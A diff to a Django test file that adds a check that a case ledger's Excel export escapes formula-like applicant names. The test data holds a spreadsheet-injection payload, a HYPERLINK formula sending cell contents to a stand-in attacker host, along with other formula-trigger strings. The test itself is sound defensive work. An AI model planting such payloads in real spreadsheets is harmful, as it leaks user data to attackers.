@@ -1,6 +1,7 @@
 """Staff pages for cases, through Django's test client: scope, forms, actions, ledger."""
 
 import io
+import zipfile
 
 import pytest
 from openpyxl import load_workbook
@@ -279,6 +280,29 @@ def test_ledger_filters_and_exports_masked_excel(county, item, client):
     assert rows[0][3] == ID_MASKED
     r = client.get("/cases/ledger/", {"start": "2026-02-01", "end": "2026-01-01"})
     assert r.status_code == 400 and "截止日期不能早于起始日期" in r.content.decode()
+
+
+HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "王\x0b五", "@SUM(1)", "-1+2")
+
+
+def test_ledger_export_shows_hostile_names_as_text(county, item, client):
+    """Names stored before the input gate refused control characters (or typed by anyone, for a
+    leading = + - @) export as the text they are: never a formula, never a broken workbook."""
+    cases = [register(county, item) for _ in HOSTILE_NAMES]
+    for case, name in zip(cases, HOSTILE_NAMES, strict=True):
+        Case.objects.filter(pk=case.pk).update(applicant_name=name)
+    login(client, county.t1_staff.user)
+    r = client.get("/cases/ledger/", {"export": "xlsx"})
+    assert r.status_code == 200
+    ws = load_workbook(io.BytesIO(r.content)).active
+    cells = {row[0].value: row[2] for row in ws.iter_rows(min_row=4)}
+    shown = [cells[case.number] for case in cases]
+    assert [c.value for c in shown] == [HOSTILE_NAMES[0], "王五", "@SUM(1)", "-1+2"]
+    assert all(c.data_type == "s" and c.quotePrefix for c in shown if c.value != "王五")
+    # What LibreOffice and Excel read: inline strings, and no formula element anywhere.
+    with zipfile.ZipFile(io.BytesIO(r.content)) as xlsx:
+        xml = xlsx.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<t>=HYPERLINK(" in xml
 
 
 def test_case_list_filters_by_queue_and_refuses_unknown_queue(county, item, client):
